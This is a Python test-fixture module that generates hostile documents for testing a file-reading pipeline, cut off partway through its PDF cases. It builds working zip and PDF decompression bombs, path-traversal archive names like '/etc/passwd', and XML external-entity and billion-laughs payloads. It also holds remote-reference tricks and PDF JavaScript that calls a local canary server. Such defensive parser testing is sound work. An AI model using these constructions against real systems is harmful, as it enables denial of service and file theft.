"""Hostile files, and the good ones among them: the same thousand every time, each made when it is written."""

# ruff: noqa: E501  # in the tables a trap is a line

from __future__ import annotations

import base64
import json
import os
import random
import socket
import struct
import zlib
from collections.abc import Callable, Iterator, Mapping, Sequence
from dataclasses import dataclass
from functools import cache, partial
from io import BytesIO
from itertools import chain
from pathlib import Path
from typing import Literal
from zipfile import ZIP_DEFLATED, ZipFile

from rag.readers import READERS
from tests.office_files import (
    core_properties,
    docx,
    epub,
    meta,
    office_xml,
    opendocument,
    pack,
    paragraph,
    pptx,
    shape,
    xlsx,
)
from tests.pdf_files import make_pdf, show, show_lines
from tests.test_spreadsheet import OLD_BOOK

Fate = Literal["read", "refused", "either", "left out"]
Make = Callable[[], bytes]

CANARY = "A canary of cobalt sang at the quay of Ravnholt."
"""Stands in a file outside the folder, and in no other: whoever has read that file has these words."""
MANY = 1_000_000
SEED = 1932
SLOW = frozenset(
    (
        "count a million.pdf|one page all too often.pdf|long meaning.pdf|scattered letters.pdf|labels.epub|lines.jsonl"
        "|attributes.html|signed.eml|many mails.mbox|starts.mbox|many items.rss|long title.rss|empty elements.xml"
        "|400000 tags.xml|400000 open.xml|empty parts.eml|tags.html"
    ).split("|")
)
"""Those that take many seconds, or all the computing that they are given."""
TELLING = frozenset(["bomb of words.pdf", "local.xml", "local.docx", "laughs.xlsx", "flat.docx", "overlapping.docx"])


@dataclass(frozen=True, slots=True)
class Trap:
    """A file, or what is in the place of one."""

    kind: str
    name: str
    put: Callable[[Path], None]
    fate: Fate = "either"
    is_slow: bool = False
    """Whether it takes all the computing that it is given."""

    @property
    def is_telling(self) -> bool:
        """Whether it is of the few that no short test may leave out."""
        return self.kind == "special" or self.name in TELLING


@dataclass(frozen=True, slots=True)
class Outside:
    """What no file of the folder may reach."""

    canary: Path
    port: int

    @property
    def addresses(self) -> tuple[str, str]:
        return self.canary.as_uri(), f"http://127.0.0.1:{self.port}/"


def good_files() -> dict[str, bytes]:
    """A file for every ending that has a format of its own, each with words that no other has."""
    words = {ending: f"The ferry {number} to Saltholm leaves at nine." for number, ending in enumerate(_GOOD)}
    return {ending: make(words[ending]) for ending, make in _GOOD.items()}


def traps(outside: Outside) -> Iterator[Trap]:
    good = good_files()
    return chain(
        _zip_traps(),
        _entity_traps(outside),
        _reference_traps(outside),
        _nested_traps(),
        _pdf_traps(outside),
        _large_traps(),
        _changed_traps(good),
        _exchanged_traps(good),
        _noise_traps(),
        _empty_traps(),
        _name_traps(),
        _special_traps(outside),
    )


def boasts() -> dict[str, bytes]:
    """By ending: files that say too much of themselves."""
    words = "T" * 5_000
    contents = f'<ncx><navMap><navPoint><navLabel><text>{words}</text></navLabel><content src="a.xhtml"/></navPoint></navMap></ncx>'
    return {
        ".eml": _mail("words", f"Subject: {words}").replace(b"Subject: The ferry\r\n", b""),
        ".mbox": _mailbox("words").replace(b"Ada", words.encode()),
        ".ipynb": _notebook("words", metadata={"title": words, "authors": [{"name": words}]}),
        ".pptx": pptx([shape(words, placeholder='<p:ph type="title"/>')]),
        ".epub": epub(
            {"a.xhtml": "<p>words</p>"},
            metadata=f"<dc:publisher>{words}</dc:publisher>",
            items='<item id="n" href="n.ncx" media-type="application/x-dtbncx+xml"/>',
            parts={"OEBPS/n.ncx": contents},
        ),
    }


def _file(kind: str, name: str, make: Make, fate: Fate = "either", *, is_slow: bool = False) -> Trap:
    return Trap(kind, name, partial(_write, make), fate, is_slow)


def _write(make: Make, path: Path) -> None:
    path.write_bytes(make())


def _files(kind: str, makes: Mapping[str, Make], *, slow: Sequence[str] = (), fate: Fate = "either") -> Iterator[Trap]:
    return (_file(kind, name, make, fate, is_slow=name in slow) for name, make in makes.items())


# The good files


def _notebook(source: str, **more: object) -> bytes:
    return json.dumps(
        {"nbformat": 4, "metadata": {}, "cells": [{"cell_type": "markdown", "source": source}], **more}
    ).encode()


def _mail(body: str, *headers: str) -> bytes:
    lines = ("From: Ada Berg <ada@example.org>", "Subject: The ferry", "Date: Thu, 1 Jan 2004 10:00:00 +0000", *headers)
    return "\r\n".join([*lines, "", body, ""]).encode()


def _mailbox(*bodies: str) -> bytes:
    return "".join(
        f"From ada Thu Jan  1 10:00:00 2004\nFrom: Ada <a@b.c>\nSubject: Tea\n\n{body}\n\n" for body in bodies
    ).encode()


def _feed(items: str, head: str = "") -> bytes:
    return f'{head}<rss version="2.0"><channel><title>Ferries</title>{items}</channel></rss>'.encode()


def _item(words: str) -> str:
    return f"<item><title>News</title><description>{words}</description></item>"


def _rows_of(*rows: Sequence[str]) -> str:
    cells = ("".join(f'<c t="str"><v>{cell}</v></c>' for cell in row) for row in rows)
    return "".join(f"<row>{row}</row>" for row in cells)


def _table(*rows: Sequence[str], more: str = "") -> str:
    lines = (
        "".join(f"<table:table-cell {more}><text:p>{cell}</text:p></table:table-cell>" for cell in row) for row in rows
    )
    return f'<table:table table:name="T">{"".join(f"<table:table-row>{line}</table:table-row>" for line in lines)}</table:table>'


def _old_workbook(words: str) -> bytes:
    """The same length: nothing here writes that format. The words are "Maple Leafs"."""
    return zlib.decompress(base64.b85decode("".join(OLD_BOOK))).replace(b"Maple Leafs", words[:11].encode())


_GOOD: dict[str, Callable[[str], bytes]] = {
    ".txt": lambda words: f"Ferries\n\n{words}\n".encode(),
    ".log": lambda words: f"2004-01-01 10:00 {words}\n".encode(),
    ".rst": lambda words: f"Ferries\n=======\n\n{words}\n".encode("utf-16"),
    ".tex": lambda words: f"\\section{{Ferries}}\nZoë says: {words}\n".encode("cp1252"),
    ".md": lambda words: f"---\ntitle: Ferries\n---\n# Ferries\n\n- {words}\n".encode(),
    ".html": lambda words: f"<!doctype html><title>Ferries</title><article><h1>Ferries</h1><p>{words}</p>".encode(),
    ".xhtml": lambda words: f'<html xmlns="http://www.w3.org/1999/xhtml"><body><p>{words}</p></body></html>'.encode(),
    ".pdf": lambda words: make_pdf([show_lines([words, "It is blue."])], info="/Title(Ferries)"),
    ".docx": lambda words: docx(paragraph(words), parts={"docProps/core.xml": core_properties(title="Ferries")}),
    ".odt": lambda words: opendocument("text", f"<text:p>{words}</text:p>", parts={"meta.xml": meta("<dc:title>F</dc:title>")}),
    ".rtf": lambda words: rf"{{\rtf1\ansi{{\info{{\title Ferries}}}}\b {words}\b0\par}}".encode(),
    ".pptx": lambda words: pptx([shape(words), shape("The second slide.")]),
    ".epub": lambda words: epub({"a.xhtml": f"<html><body><h1>One</h1><p>{words}</p></body></html>"}, metadata="<dc:title>F</dc:title>"),
    ".xlsx": lambda words: xlsx({"First": _rows_of(["Name", "Said"], ["Ada", words], ["Bo", "Nothing."])}),
    ".xls": _old_workbook,
    ".ods": lambda words: opendocument("spreadsheet", _table(["Name", "Said"], ["Ada", words], ["Bo", "Nothing."])),
    ".csv": lambda words: f'Name,Said\nAda,"{words}"\nBo,Nothing\n'.encode(),
    ".tsv": lambda words: f"Name\tSaid\nAda\t{words}\nBo\tNothing\n".encode(),
    ".eml": lambda words: _mail(words),
    ".mbox": lambda words: _mailbox(words, "The second mail."),
    ".json": lambda words: json.dumps({"title": "Ferries", "text": words, "stops": [1, 2.5, None]}).encode(),
    ".jsonl": lambda words: f"{json.dumps({'said': words})}\n{json.dumps({'said': 'No.'})}\n".encode(),
    ".ipynb": lambda words: _notebook(f"# Ferries\n\n{words}"),
    ".rss": lambda words: _feed(_item(words)),
    ".xml": lambda words: f"<stops><stop>{words}</stop><stop>Another</stop></stops>".encode(),
    ".srt": lambda words: f"1\n00:00:01,000 --> 00:00:04,000\n{words}\n\n2\n00:00:05,000 --> 00:00:06,000\nYes.\n".encode(),
    ".vtt": lambda words: f"WEBVTT\n\n00:01.000 --> 00:04.000\n<v Ada>{words}\n".encode(),
}  # fmt: skip


# Archives


def _with_main(ending: str, main: bytes, **more: bytes) -> bytes:
    """An archive whose main part, the one that its reader asks for first, is this."""
    return pack({_MAIN[ending]: main, **more})


_MAIN = {
    ".docx": "word/document.xml",
    ".pptx": "ppt/presentation.xml",
    ".xlsx": "xl/workbook.xml",
    ".odt": "content.xml",
    ".ods": "content.xml",
    ".epub": "META-INF/container.xml",
}


def _zip_traps() -> Iterator[Trap]:
    for ending, main in _MAIN.items():
        xml = b"<a>" + b" " * 9_000_000 + b"</a>"
        flat = partial(_with_main, ending, bytes(300_000_000))
        makes: dict[str, Make] = {
            "flat": flat,
            "full of spaces": partial(_with_main, ending, b"<a>" + b" " * 250_000_000 + b"</a>"),
            "just below the ratio": partial(_with_main, ending, xml),
            "says it is small": partial(_lying, flat, 300_000_000, 1_000),
            "says it is large": partial(_lying, partial(_with_main, ending, xml), len(xml), 4_000_000_000),
            "many parts": partial(_many_parts, main, 20_000),
            "many parts, few said": partial(_few_said, partial(_many_parts, main, 20_000)),
            "large together": partial(_large_together, main),
            "overlapping": partial(_overlapping, main),
            "nested": partial(_nested_archives, main, 12),
            "in itself": partial(_in_itself, ending, main),
            "two of one name": partial(_renamed, ending, b"copy.xml", b"copy.xmk"),
            "leads out": partial(_renamed, ending, b"../../x.xml", b"aaaaaaa.xml"),
            "from the root": partial(_renamed, ending, b"/etc/passwd", b"aaaaaaaaaaa"),
            "a NUL in a name": partial(_renamed, ending, b"aaa\0aaa.xml", b"aaaaaaa.xml"),
            "asks for a password": partial(_encrypted, ending),
            "unknown packing": partial(_replaced, ending, b"\x08\x00", b"\x63\x00"),
            "only an end": lambda: b"PK\x05\x06" + bytes(18),
            "a large number of parts": lambda: b"PK\x03\x04" + b"PK\x05\x06" + bytes(4) + b"\xff" * 14 + bytes(2),
        }
        yield from (_file("zip", f"{name}{ending}", make, "refused") for name, make in makes.items())
        yield _file(
            "zip", f"behind a program{ending}", lambda e=ending: b"MZ" + bytes(500) + good_files()[e], "refused"
        )


def _lying(make: Make, true: int, said: int) -> bytes:
    return make().replace(struct.pack("<L", true), struct.pack("<L", said))


def _many_parts(main: str, number: int) -> bytes:
    return pack({main: "<a/>"} | dict.fromkeys(map(str, range(number)), ""))


def _few_said(make: Make) -> bytes:
    content = bytearray(make())
    end = content.rindex(b"PK\x05\x06")
    content[end + 8 : end + 12] = struct.pack("<HH", 1, 1)
    return bytes(content)


@cache
def _padding() -> bytes:
    """More in all than is allowed, at a ratio that is."""
    noise = random.Random(SEED).randbytes(2_000)
    return pack({f"{number}.xml": noise + bytes(380_000) for number in range(2_700)})


def _large_together(main: str) -> bytes:
    packed = BytesIO(_padding())
    with ZipFile(packed, "a", ZIP_DEFLATED) as archive:
        archive.writestr(main, "<a/>")
    return packed.getvalue()


def _overlapping(main: str, parts: int = 100, size: int = 1_000_000) -> bytes:
    """Each part is a quoted head of the next one and all that follows, so that the bytes are unpacked a hundred times."""
    names = [main.encode(), *(b"part%04d" % number for number in range(parts - 1))]
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed, unpacked = packer.compress(bytes(size)) + packer.flush(), bytes(size)
    sizes = list[tuple[int, int, int]]()
    body = b""
    for name in reversed(names):
        about = (zlib.crc32(unpacked), len(packed), len(unpacked))
        sizes.append(about)
        head = struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 8, 0, 33, *about, len(name), 0) + name
        body = head + packed
        packed = b"\0" + struct.pack("<HH", len(head), len(head) ^ 0xFFFF) + body
        unpacked = head + unpacked
    listed, offset = b"", 0
    for name, about in zip(names, reversed(sizes), strict=True):
        listed += (
            struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, 8, 0, 33, *about, len(name), 0, 0, 0, 0, 0, offset)
            + name
        )
        offset += 30 + len(name) + 5
    return body + listed + struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, parts, parts, len(listed), len(body), 0)


def _nested_archives(main: str, depth: int) -> bytes:
    content = pack({"bomb": bytes(9_000_000)})
    for _ in range(depth):
        content = pack({f"{number}.zip": content for number in range(16)})
    return pack({"bomb.docx": content, f"{main}.zip": content})


def _in_itself(ending: str, main: str) -> bytes:
    """Its main part is an archive that holds that part again."""
    content = pack({main: "<a/>"})
    for _ in range(5):
        content = _with_main(ending, content)
    return content


def _renamed(ending: str, name: bytes, placeholder: bytes) -> bytes:
    parts = {"copy.xml": b"<a/>", placeholder.decode(): b"<a/>"}
    return _with_parts(ending, parts).replace(placeholder, name)


def _with_parts(ending: str, parts: Mapping[str, bytes]) -> bytes:
    """A good file with further parts."""
    packed = BytesIO(good_files()[ending])
    with ZipFile(packed, "a", ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return packed.getvalue()


def _encrypted(ending: str) -> bytes:
    content = bytearray(good_files()[ending])
    content[content.index(b"PK\x01\x02") + 8] |= 1
    return bytes(content)


def _replaced(ending: str, old: bytes, new: bytes) -> bytes:
    content = bytearray(good_files()[ending])
    at = content.index(b"PK\x01\x02")
    content[at + 10 : at + 10 + len(old)] = new
    return bytes(content)


# Entities, and whatever else makes a parser fetch or multiply


def _heads(outside: Outside) -> dict[str, tuple[str, str]]:
    """What stands before the root, and what in it."""
    local, remote = outside.addresses
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return {
        "laughs": (f'<!DOCTYPE a [<!ENTITY l0 "ha">{laughs}]>', "&l9;"),
        "quadratic": (f'<!DOCTYPE a [<!ENTITY q "{"q" * 50_000}">]>', "&q;" * 50_000),
        "local": (f'<!DOCTYPE a [<!ENTITY x SYSTEM "{local}">]>', "&x;"),
        "local by path": (f'<!DOCTYPE a [<!ENTITY x SYSTEM "{outside.canary}">]>', "&x;"),
        "remote": (f'<!DOCTYPE a [<!ENTITY x SYSTEM "{remote}x">]>', "&x;"),
        "remote dtd": (f'<!DOCTYPE a PUBLIC "-//A" "{remote}a.dtd">', "words"),
        "parameter": (f'<!DOCTYPE a [<!ENTITY % p SYSTEM "{remote}p.dtd"> %p;]>', "&x;"),
        "small letters": (f'<!doctype a [<!entity x system "{local}">]>', "&x;"),
        "late": ("<!--" + "-" * 5_000 + f'--><!DOCTYPE a [<!ENTITY x SYSTEM "{local}">]>', "&x;"),
        "itself": ('<!DOCTYPE a [<!ENTITY x "&y;"><!ENTITY y "&x;">]>', "&x;"),
    }


def _entity_traps(outside: Outside) -> Iterator[Trap]:
    for name, (head, inner) in _heads(outside).items():
        xml = f'<?xml version="1.0"?>{head}<a>{inner}</a>'
        chapter = f"{head}<html><body><p>{inner} words</p></body></html>"
        ncx = f'{head}<ncx><navMap><navPoint><navLabel><text>{inner}</text></navLabel><content src="a.xhtml"/></navPoint></navMap></ncx>'
        listed = '<item id="n" href="toc.ncx" media-type="application/x-dtbncx+xml"/>'
        carriers: dict[str, Make] = {
            ".xml": xml.encode,
            "-16.xml": partial(xml.encode, "utf-16"),
            ".rss": partial(_feed, _item(inner), head),
            ".atom": f'{head}<feed xmlns="http://www.w3.org/2005/Atom"><title>{inner}</title></feed>'.encode,
            **{ending: partial(_with_main, ending, xml.encode()) for ending in _MAIN},
            "-styles.docx": partial(docx, paragraph("words"), parts={"word/styles.xml": xml}),
            "-properties.xlsx": partial(xlsx, {"A": _rows_of(["x"])}, parts={"docProps/core.xml": xml}),
            "-chapter.epub": partial(epub, {"a.xhtml": chapter}),
            "-contents.epub": partial(epub, {"a.xhtml": "<p>words</p>"}, items=listed, parts={"OEBPS/toc.ncx": ncx}),
            ".xhtml": chapter.encode,
        }
        for carrier, make in carriers.items():
            is_hidden = carrier in ("-properties.xlsx", "-chapter.epub", "-contents.epub", ".xhtml")
            fate: Fate = (
                "either" if is_hidden or (name == "small letters" and carrier not in (".xml", ".rss")) else "refused"
            )
            yield _file("entities", f"{name}{carrier}", make, fate)


def _reference_traps(outside: Outside) -> Iterator[Trap]:
    """Without entities: what a careless reader would follow."""
    for where, address in zip(("local", "remote"), outside.addresses, strict=True):
        up = "../" * 12 + str(outside.canary).lstrip("/")
        link = f'<Relationship Id="rId1" Type="urn:x/%s" Target="{address}" %s/>'
        external, internal = (f"<R>{link % ('subDocument', mode)}</R>" for mode in ('TargetMode="External"', ""))
        page = (
            f'<base href="{address}"><link rel="stylesheet" href="{address}"><meta http-equiv="refresh" content="0;{address}">'
            f'<iframe src="{address}"></iframe><object data="{address}"></object><img src="{address}"><script src="{address}">'
            f'</script><p>words</p><embed src="{address}">'
        )
        yield from _files(
            f"references {where}",
            {
                "page.html": page.encode,
                "include.xml": f'<a xmlns:xi="http://www.w3.org/2001/XInclude"><b>words</b><xi:include href="{address}" parse="text"/></a>'.encode,
                "style.xml": f'<?xml-stylesheet type="text/xsl" href="{address}"?><a>words</a>'.encode,
                "schema.xml": f'<a xmlns:i="http://www.w3.org/2001/XMLSchema-instance" i:noNamespaceSchemaLocation="{address}">words</a>'.encode,
                "address.rss": address.encode,
                "content.atom": f'<feed xmlns="http://www.w3.org/2005/Atom" xml:base="{address}"><entry><content src="{address}"/></entry></feed>'.encode,
                "external.docx": partial(docx, paragraph("words") + '<w:subDoc r:id="rId1"/>', parts={"word/_rels/document.xml.rels": external}),
                "internal.docx": partial(docx, paragraph("words") + '<w:altChunk r:id="rId1"/>', parts={"word/_rels/document.xml.rels": internal}),
                "template.docx": partial(docx, paragraph("words"), parts={"word/_rels/settings.xml.rels": external}),
                "field.docx": partial(docx, f'<w:p><w:fldSimple w:instr="INCLUDETEXT {address}"><w:r><w:t>words</w:t></w:r></w:fldSimple></w:p>'),
                "section.odt": partial(opendocument, "text", f'<text:section><text:section-source xmlns:xl="urn:l" xl:href="{address}"/></text:section><text:p>words</text:p>'),
                "formula.ods": partial(opendocument, "spreadsheet", _table(["a", "b"], more=f"table:formula='of:=WEBSERVICE(\"{address}\")'")),
                "formula.csv": f'a,b\n"=WEBSERVICE(""{address}"")",2\n'.encode,
                "chapter.epub": partial(epub, {"a.xhtml": "<p>words</p>"}, items=f'<item id="x" href="{address}" media-type="text/html"/><item id="y" href="{up}" media-type="text/html"/>', spine='<itemref idref="x"/><itemref idref="y"/><itemref idref="c0"/>'),
                "root.epub": partial(epub, {"a.xhtml": "<p>words</p>"}, parts={"META-INF/container.xml": f'<c><rootfile full-path="{up}"/></c>'}),
                "body.eml": partial(_mail, f'Content-Type: message/external-body; access-type=local-file; name="{outside.canary}"\r\n\r\nContent-Type: text/plain\r\n\r\nwords', "Content-Type: multipart/mixed; boundary=x"),
                "picture.eml": partial(_mail, page, "Content-Type: text/html"),
                "field.rtf": rf'{{\rtf1 {{\field{{\*\fldinst INCLUDETEXT "{address}"}}{{\fldrslt words}}}}{{\object\objlink {address}}}}}'.encode,
                "link.md": f"![words]({address})\n\n<{address}>\n\n!include {address}".encode,
                "input.tex": f"\\input{{{outside.canary}}} words".encode,
                "reference.json": json.dumps({"$ref": address, "text": "words"}).encode,
                "picture.ipynb": partial(_notebook, f"![x](attachment:{address}) words", metadata={"kernelspec": address}),
            },
        )  # fmt: skip


# Depth


def _nested_traps() -> Iterator[Trap]:
    for depth in (90, 300, 5_000, 400_000):
        wrap = partial(_wrapped, depth)
        parts, low = min(depth, 20_000), min(depth, 800)
        makes: dict[str, Make] = {
            "tags.xml": lambda w=wrap: w("<a>", "words", "</a>").encode(),
            "open.xml": lambda d=depth: b"<a>" * d,
            "tags.html": lambda w=wrap: w("<div>", "words", "</div>").encode(),
            "open.html": lambda d=depth: b"<b><i>" * d + b"words",
            "table.html": lambda d=depth: b"<table><tr><td>" * d + b"words",
            "drawing.xhtml": lambda w=wrap: f"<p>words</p>{w('<svg><g>', 'words', '</g></svg>')}".encode(),
            "articles.html": lambda w=wrap: w("<article><h2>Head</h2>", "<p>words</p>", "</article>").encode(),
            "lists.json": lambda w=wrap: w("[", "1", "]").encode(),
            "objects.json": lambda w=wrap: w('{"a":', "1", "}").encode(),
            "open.jsonl": lambda d=depth: b"[" * d,
            "cells.ipynb": lambda w=wrap: f'{{"cells": {w("[", "1", "]")}}}'.encode(),
            "groups.rtf": lambda w=wrap: rf"{{\rtf1 {w('{', 'words', '}')}}}".encode(),
            "lists.md": lambda d=low: "".join(f"{'  ' * n}- item\n" for n in range(d)).encode(),
            "quotes.md": lambda d=depth: b">" * d + b" words",
            "tables.docx": lambda w=wrap: docx(w("<w:tbl><w:tr><w:tc>", paragraph("words"), "</w:tc></w:tr></w:tbl>")),
            "boxes.docx": lambda w=wrap: docx(w("<w:p><w:r><w:txbxContent>", paragraph("words"), "</w:txbxContent></w:r></w:p>")),
            "choices.docx": lambda w=wrap: docx(w("<mc:AlternateContent><mc:Choice>", paragraph("words"), "</mc:Choice></mc:AlternateContent>")),
            "lists.odt": lambda w=wrap: opendocument("text", w("<text:list><text:list-item>", "<text:p>words</text:p>", "</text:list-item></text:list>")),
            "spans.odt": lambda w=wrap: opendocument("text", f"<text:p>{w('<text:span>', 'words', '</text:span>')}</text:p>"),
            "tables.ods": lambda w=wrap: opendocument("spreadsheet", w("<table:table><table:table-row><table:table-cell>", "<text:p>words</text:p>", "</table:table-cell></table:table-row></table:table>")),
            "groups.pptx": lambda w=wrap: pptx([w("<p:grpSp>", shape("words"), "</p:grpSp>")]),
            "contents.epub": lambda w=wrap: epub({"a.xhtml": "<p>words</p>"}, items='<item id="n" href="n.ncx" media-type="application/x-dtbncx+xml"/>', parts={"OEBPS/n.ncx": f"<ncx><navMap>{w('<navPoint>', '', '</navPoint>')}</navMap></ncx>"}),
            "parts.eml": lambda d=parts: _nested_mail(d, "multipart/mixed"),
            "alternatives.eml": lambda d=parts: _nested_mail(d, "multipart/alternative"),
            "mails.eml": lambda d=parts: _mail("Content-Type: message/rfc822\r\n\r\n" * d + "words", "Content-Type: message/rfc822"),
            "quotes.eml": lambda d=low: _mail("\r\n".join(">" * n + " words" for n in range(0, d, 10))),
            "tags.rss": lambda w=wrap: _feed(_item(w("&lt;div&gt;", "words", "&lt;/div&gt;"))),
            "unescaped.rss": lambda w=wrap: _feed(_item(w("<div>", "words", "</div>"))),
            "marks.vtt": lambda w=wrap: f"WEBVTT\n\n00:01.000 --> 00:02.000\n{w('<b>', 'words', '</b>')}\n".encode(),
        }  # fmt: skip
        yield from _files("nesting", {f"{depth} {name}": make for name, make in makes.items()}, slow=SLOW)


def _wrapped(depth: int, before: str, inner: str, after: str) -> str:
    return before * depth + inner + after * depth


def _nested_mail(depth: int, kind: str) -> bytes:
    parts = "".join(f"--b{n}\r\nContent-Type: {kind}; boundary=b{n + 1}\r\n\r\n" for n in range(depth))
    return _mail(f"{parts}--b{depth}\r\n\r\nwords", f"Content-Type: {kind}; boundary=b0")


# PDF


def _pdf(bodies: Mapping[int, bytes | str], trailer: str = "") -> bytes:
    """From the bodies of its objects; the first is the catalog."""
    parts, offsets = [b"%PDF-1.7\n"], {}
    for number, body in bodies.items():
        offsets[number] = sum(map(len, parts))
        parts.append(b"%d 0 obj\n%s\nendobj\n" % (number, body.encode("latin-1") if isinstance(body, str) else body))
    start, size = sum(map(len, parts)), max(bodies) + 1
    table = "".join(f"{offsets.get(n, 0):010} {'00000 n' if n in offsets else '65535 f'} \n" for n in range(size))
    return (
        b"".join(parts)
        + f"xref\n0 {size}\n{table}trailer\n<</Size {size}/Root 1 0 R{trailer}>>\nstartxref\n{start}\n%%EOF\n".encode()
    )


def _stream(content: bytes, about: str = "", *, times: int = 0, packed: int = 0) -> bytes:
    """To be unpacked so many times, if `packed` or so many times packed here."""
    for _ in range(times):
        content = zlib.compress(content, 9)
    times += packed
    packing = f"/Filter[{'/FlateDecode' * times}]" if times else ""
    return f"<</Length {len(content)}{packing}{about}>>stream\n".encode() + content + b"\nendstream"


def _packed_zeros(megabytes: int) -> bytes:
    """As `zlib.compress` would give them, at once: the same block again and again."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = packer.compress(bytes(1_000_000)) + packer.flush(zlib.Z_FULL_FLUSH)
    return b"x\xda" + block * megabytes + b"\x03\0" + struct.pack(">HH", megabytes * 1_000_000 % 65_521, 1)


_FONT = "/Resources<</Font<</F1<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>>>"


def _page(content: bytes, *, page: str = "", more: Mapping[int, bytes | str] | None = None, root: str = "") -> bytes:
    """A page of this stream, object 4; further objects from 5 on."""
    return _pdf(
        {
            1: f"<</Type/Catalog/Pages 2 0 R{root}>>",
            2: "<</Type/Pages/Kids[3 0 R]/Count 1>>",
            3: f"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R{page or _FONT}>>",
            4: content,
            **(more or {}),
        }
    )


def _tree(pages: str, more: Mapping[int, bytes | str] | None = None) -> bytes:
    leaf = f"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R{_FONT}>>"
    return _pdf({1: "<</Type/Catalog/Pages 2 0 R>>", 2: pages, 3: leaf, 4: _stream(_WORDS), **(more or {})})


_WORDS = b"BT /F1 10 Tf 72 700 Td (Some words.) Tj ET\n"


def _pdf_traps(outside: Outside) -> Iterator[Trap]:
    local, remote = outside.addresses
    chance = random.Random(SEED)
    forms = {
        n: _stream(
            f"/X Do /X Do {_WORDS.decode()}".encode(),
            f"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X {n + 1} 0 R>>>>",
        )
        for n in range(5, 45)
    }
    image = "/Type/XObject/Subtype/Image/ColorSpace/DeviceRGB/BitsPerComponent 8/Width %d/Height %d"
    shows_image = _stream(b"q 500 0 0 500 0 0 cm /I Do Q")
    scattered = "".join(
        show(chance.uniform(0, 595), chance.uniform(0, 842), "word", size=chance.uniform(1, 20)) for _ in range(30_000)
    )
    turned = "".join(
        show(
            300,
            400,
            "word",
            turn=f"0.{chance.randrange(10**4)} 0.{chance.randrange(10**4)} -0.5 0.{chance.randrange(10**4)}",
        )
        for _ in range(5_000)
    )
    wide_map = (
        "begincmap 1 begincodespacerange <00> <FF> endcodespacerange 1 beginbfrange <00> <FF> <"
        + "0061" * 50_000
        + "> endbfrange endcmap"
    )
    mapped = "/Resources<</Font<</F1<</Type/Font/Subtype/Type1/BaseFont/Helvetica/ToUnicode 5 0 R>>>>>>"
    drawn = "/Resources<</Font<</F1<</Type/Font/Subtype/Type3/FontBBox[0 0 9 9]/FontMatrix[1 0 0 1 0 0]/FirstChar 97/LastChar 97/Widths[9]/Encoding<</Differences[97/a]>>/CharProcs<</a 5 0 R>>/Resources 6 0 R>>>>>>"
    acts = {
        "script": f"/S/JavaScript/JS(app.launchURL\\('{remote}'\\);this.submitForm\\('{remote}'\\))",
        "address": f"/S/URI/URI({remote})",
        "launch": f"/S/Launch/F({outside.canary})",
        "go to": f"/S/GoToR/F({outside.canary})/D[0/Fit]",
        "submit": f"/S/SubmitForm/F<</FS/URL/F({remote})>>",
        "import": f"/S/ImportData/F({local})",
    }
    form = "/AcroForm<</Fields[]/XFA[(template)5 0 R]/NeedAppearances true>>"
    xfa = f'<!DOCTYPE a [<!ENTITY x SYSTEM "{local}">]><xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><a href="{remote}">&x;</a></xdp:xdp>'
    makes: dict[str, Make] = {
        "count": lambda: _tree("<</Type/Pages/Kids[3 0 R]/Count 2147483647>>"),
        "count a million": lambda: _tree("<</Type/Pages/Kids[3 0 R]/Count 1000000>>"),
        "count below zero": lambda: _tree("<</Type/Pages/Kids[3 0 R]/Count -5>>"),
        "one page often": lambda: _tree(f"<</Type/Pages/Kids[{'3 0 R ' * 3_000}]/Count 3000>>"),
        "one page all too often": lambda: _tree(f"<</Type/Pages/Kids[{'3 0 R ' * 400_000}]/Count 400000>>"),
        "tree in itself": lambda: _tree("<</Type/Pages/Kids[2 0 R 3 0 R]/Count 2>>"),
        "tree in a ring": lambda: _tree("<</Type/Pages/Kids[5 0 R]/Count 1>>", {5: "<</Type/Pages/Parent 2 0 R/Kids[2 0 R]/Count 1>>"}),
        "tree without end": lambda: _tree("<</Type/Pages/Kids[5 0 R]/Count 1>>", {n: f"<</Type/Pages/Parent {n - 1} 0 R/Kids[{n + 1} 0 R]/Count 1>>" for n in range(5, 20_000)}),
        "doubling tree": lambda: _tree("<</Type/Pages/Kids[5 0 R 5 0 R]/Count 1099511627776>>", {n: f"<</Type/Pages/Kids[{n + 1} 0 R {n + 1} 0 R]/Count 1000000>>" for n in range(5, 45)}),
        "parent of itself": lambda: _tree("<</Type/Pages/Parent 2 0 R/Kids[3 0 R]/Count 1>>"),
        "table before itself": lambda: (c := _tree("<</Type/Pages/Kids[3 0 R]/Count 1>>")).replace(b"/Root", b"/Prev %d/Root" % c.rindex(b"xref\n0")),
        "object in itself": lambda: _tree("<</Type/Pages/Kids[3 0 R]/Count 1>>", {5: _stream(b"2 0 <<>>", "/Type/ObjStm/N 1/First 4/Extends 5 0 R")}),
        "length of itself": lambda: _page(b"<</Length 4 0 R>>stream\n" + _WORDS + b"endstream"),
        "length too large": lambda: _page(b"<</Length 99999999999>>stream\n" + _WORDS + b"endstream"),
        "length below zero": lambda: _page(b"<</Length -1>>stream\n" + _WORDS + b"endstream"),
        "bomb": lambda: _page(_stream(_packed_zeros(1_500), packed=1)),
        "bomb of words": lambda: _page(_stream(_WORDS * 4_000_000, times=1)),
        "bomb in a bomb": lambda: _page(_stream(_packed_zeros(1_000), times=2, packed=1)),
        "bomb of spaces": lambda: _page(_stream(b"BT /F1 10 Tf (" + b" " * 50_000_000 + b") Tj ET", times=1)),
        "runs": lambda: _page(_stream(b"\x81a" * 4_000_000 + b"\x80", "/Filter/RunLengthDecode")),
        "wide predictor": lambda: _page(_stream(zlib.compress(bytes(9_000_000)), "/Filter/FlateDecode/DecodeParms<</Predictor 12/Columns 2147483647/Colors 32/BitsPerComponent 32>>")),
        "huge image": lambda: _page(shows_image, page="/Resources<</XObject<</I 5 0 R>>>>", more={5: _stream(bytes(1_000_000), image % (65_535, 65_535), times=1)}),
